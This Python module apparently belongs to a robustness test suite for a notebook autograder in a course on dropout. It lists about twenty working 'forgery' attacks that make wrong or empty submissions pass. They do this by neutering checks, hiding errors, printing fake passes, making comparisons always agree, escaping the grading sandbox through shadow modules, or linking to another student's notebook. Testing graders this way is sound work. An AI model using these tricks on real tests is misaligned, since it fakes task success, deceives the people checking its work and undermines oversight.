"""Verdict forgeries: make a blank or wrong answer pass by changing what the tests decide with."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from . import Attack, Context
from .snippets import NO_OP_CHECKS


def _insert_above_setup(code: str):  # noqa: ANN202 - an Edit
    """An Edit that puts a code cell holding ``code`` above the locked setup cell."""

    def edit(notebook: Any, context: Context) -> None:
        import nbformat

        setup = next(i for i, c in enumerate(notebook.cells) if "setup" in json.dumps(c.metadata))
        notebook.cells.insert(setup, nbformat.v4.new_code_cell(context.fill(code)))

    return edit


_LIAR_TENSOR = """
class _Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("equal", "allclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


_plain_forward = dropout_forward


def dropout_forward(x, p=0.5, training=True, generator=None):
    out, cache = _plain_forward(x, p, training, generator)
    return out.as_subclass(_Agreeable), cache
"""

_SHADOW_LAUNCHER = """
import os
import sys

if __name__ == "__main__":
    for folder in ("@COURSE@", "@REPO@"):
        try:
            with open(os.path.join(folder, "@TAG@.txt"), "w") as handle:
                handle.write("the student's launcher ran outside the sandbox\\n")
        except OSError:
            pass
    command = sys.argv[sys.argv.index("--") + 1:]
    os.execvp(command[0], command)
"""

_SHADOW_CHECKS = """
def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(f"no attribute {name}")
    return lambda *args, **kwargs: None
"""


def _shadow_package(folder: Path, context: Context) -> None:
    """An ``autograder`` package in the submission folder: it shadows the course's for the launcher
    (started with ``python -m autograder.grading.sandbox`` in this folder) and for the kernel."""
    package = folder / "autograder"
    for sub in ("", "checks", "grading"):
        (package / sub).mkdir(parents=True, exist_ok=True)
        (package / sub / "__init__.py").write_text("")
    (package / "grading" / "sandbox.py").write_text(
        context.fill(_SHADOW_LAUNCHER, "shadow_autograder_package")
    )
    (package / "checks" / "masks.py").write_text(_SHADOW_CHECKS)


_FAKE_MODULES = """
import sys
import types


class _AlwaysPasses(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(f"no attribute {name}")
        return lambda *args, **kwargs: None


_fake = _AlwaysPasses("autograder.checks.masks")
_package = types.ModuleType("autograder.checks")
_package.__path__ = []
_package.masks = _fake
sys.modules["autograder.checks"] = _package
sys.modules["autograder.checks.masks"] = _fake
"""

_LAUNCHER = (
    _FAKE_MODULES
    + """
from ipykernel import kernelapp

kernelapp.launch_new_instance()
"""
)


def _shadow_kernel_launcher(folder: Path, context: Context) -> None:
    """``ipykernel_launcher.py`` in the folder: the kernel is started as ``python -m ipykernel_launcher``
    in (a copy of) this folder, so the student's module starts the kernel, after planting fake checks."""
    (folder / "ipykernel_launcher.py").write_text(_LAUNCHER)


def _link_notebook_to_other(folder: Path, context: Context) -> None:
    """The submitted notebook is a symbolic link to another student's submission."""
    notebook = folder / "masks.ipynb"
    notebook.unlink()
    notebook.symlink_to(context.course / "submitted" / "control_solution" / "masks" / "masks.ipynb")


ATTACKS = [
    Attack(
        "rebind_checks",
        "forgery",
        "rebinds the notebook's global `checks` to an object whose checks do nothing",
        before={"dropout_mask": NO_OP_CHECKS},
    ),
    Attack(
        "input_transformer",
        "forgery",
        "an IPython input transformer turns every later cell that tests anything into `pass`",
        before={
            "dropout_mask": """
def _neuter(lines):
    text = "".join(lines)
    return ["pass\\n"] if ("checks." in text or "assert " in text) else lines


get_ipython().input_transformers_cleanup.append(_neuter)
"""
        },
    ),
    Attack(
        "ast_transformer",
        "forgery",
        "an IPython AST transformer replaces every test cell's code by `pass`",
        before={
            "dropout_mask": """
import ast


class _Gut(ast.NodeTransformer):
    def visit_Module(self, node):
        text = ast.unparse(node)
        return ast.parse("pass") if ("checks." in text or "assert " in text) else node


get_ipython().ast_transformers.append(_Gut())
"""
        },
    ),
    Attack(
        "exception_handlers",
        "forgery",
        "a custom IPython exception handler and `sys.excepthook` that swallow every error",
        before={
            "dropout_mask": """
import sys

get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
sys.excepthook = lambda *args: None
"""
        },
    ),
    Attack(
        "showtraceback_noop",
        "forgery",
        "replaces IPython's showtraceback, so a failing test cell leaves no error output",
        before={
            "dropout_mask": """
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython().showsyntaxerror = lambda *args, **kwargs: None
"""
        },
    ),
    Attack(
        "clear_output_fake_pass",
        "forgery",
        "a post_run_cell hook clears each cell's outputs (the error too) and prints a fake pass",
        before={
            "dropout_mask": """
from IPython.display import clear_output


def _forget(result):
    clear_output()
    print("All tests passed.")


get_ipython().events.register("post_run_cell", _forget)
"""
        },
    ),
    Attack(
        "vars_checks",
        "forgery",
        "writes no-op functions into `vars(checks)`, past the sealed module's __setattr__",
        before={
            "dropout_mask": """
for _name in [n for n in vars(checks) if n.startswith("check_")]:
    vars(checks)[_name] = lambda *args, **kwargs: None
"""
        },
    ),
    Attack(
        "unseal_module_class",
        "forgery",
        "sets `checks.__class__ = types.ModuleType` (allowed: a dunder), then rebinds every check",
        before={
            "dropout_mask": """
import types

checks.__class__ = types.ModuleType
for _name in [n for n in dir(checks) if n.startswith("check_")]:
    setattr(checks, _name, lambda *args, **kwargs: None)
"""
        },
    ),
    Attack(
        "patch_check_bodies",
        "forgery",
        "replaces the `__code__` of every registered check body with one that returns at once",
        before={
            "dropout_mask": """
from autograder.checks.core import BODIES


def _nothing(*args, **kwargs):
    return None


for _body in BODIES.values():
    _body.__code__ = _nothing.__code__
"""
        },
    ),
    Attack(
        "patch_core_T",
        "forgery",
        "a wrong answer (no rescale) plus patches of the captured namespace `core.T` (equal, allclose)",
        base="wrong",
        before={
            "dropout_forward": """
import autograder.checks.core as _core

_core.T.equal = lambda *args, **kwargs: True
_core.T.allclose = lambda *args, **kwargs: True
"""
        },
    ),
    Attack(
        "patch_reference_module",
        "forgery",
        "a wrong answer (no rescale) plus a patched reference the checks compare with (no rescale there)",
        base="wrong",
        before={
            "dropout_forward": """
import autograder.reference as _course_reference


def _unscaled_backward(grad_output, cache):
    return grad_output * cache.mask


_course_reference.dropout_backward = _unscaled_backward
"""
        },
    ),
    Attack(
        "sys_modules_above_setup",
        "forgery",
        "a cell above the locked setup cell plants fake `autograder.checks` modules in sys.modules",
        edit=_insert_above_setup(_FAKE_MODULES),
    ),
    Attack(
        "patch_torch_above_setup",
        "forgery",
        "a wrong answer plus a cell above the setup cell that patches torch.equal/allclose before the "
        "checks capture them",
        base="wrong",
        edit=_insert_above_setup(
            "import torch\n"
            "torch.equal = lambda *args, **kwargs: True\n"
            "torch.allclose = lambda *args, **kwargs: True\n"
        ),
    ),
    Attack(
        "global_torch_function_mode",
        "forgery",
        "a wrong answer plus a TorchFunctionMode entered for good that answers True to equal/allclose",
        base="wrong",
        before={
            "dropout_forward": """
import torch.overrides as _overrides


class _Agree(_overrides.TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("equal", "allclose"):
            return True
        return func(*args, **kwargs) if kwargs else func(*args)


_Agree().__enter__()
"""
        },
    ),
    Attack(
        "lying_tensor_subclass",
        "forgery",
        "a wrong answer whose output is a Tensor subclass that says it equals whatever it is compared to",
        base="wrong",
        after={"dropout_forward": _LIAR_TENSOR},
    ),
    Attack(
        "settrace_rewrites_locals",
        "forgery",
        "a wrong answer plus sys.settrace that sets the expected value to the found one in the checks' "
        "comparison helpers",
        base="wrong",
        before={
            "dropout_forward": """
import sys


def _tracer(frame, event, arg):
    code = frame.f_code
    if event == "call" and code.co_name in ("close", "same") and "checks" in code.co_filename:
        frame.f_locals["b"] = frame.f_locals["a"]
    return None


sys.settrace(_tracer)
"""
        },
    ),
    Attack(
        "nan_output",
        "forgery",
        "dropout_forward returns NaN of the right dtype, shape and device; backward returns NaN",
        base="mask_only",
        after={
            "dropout_forward": """
def dropout_forward(x, p=0.5, training=True, generator=None):
    if not 0.0 <= p <= 1.0:
        raise ValueError("p must be in [0, 1]")
    return torch.full_like(x, float("nan")), None
""",
            "dropout_backward": """
def dropout_backward(grad_output, cache):
    return torch.full_like(grad_output, float("nan"))
""",
        },
    ),
    Attack(
        "exit_tricks",
        "forgery",
        "honest mask; dropout_forward registers an atexit handler and calls os._exit(0) when a test "
        "calls it, hoping the tests that never ran count as passed",
        base="mask_only",
        after={
            "dropout_forward": """
import atexit
import os


def dropout_forward(x, p=0.5, training=True, generator=None):
    atexit.register(print, "all tests passed")
    os._exit(0)
"""
        },
    ),
    Attack(
        "shadow_autograder_package",
        "forgery",
        "an `autograder/` package in the submission folder: the sandbox launcher and the checks import "
        "the student's copies (the launcher runs the kernel unsandboxed, the checks do nothing)",
        files=_shadow_package,
    ),
    Attack(
        "shadow_kernel_launcher",
        "forgery",
        "an `ipykernel_launcher.py` in the submission folder that plants fake checks, then starts the "
        "real kernel",
        files=_shadow_kernel_launcher,
    ),
    Attack(
        "notebook_symlink_to_other",
        "forgery",
        "the submitted notebook is a symbolic link to another student's notebook (copying by link)",
        files=_link_notebook_to_other,
    ),
]
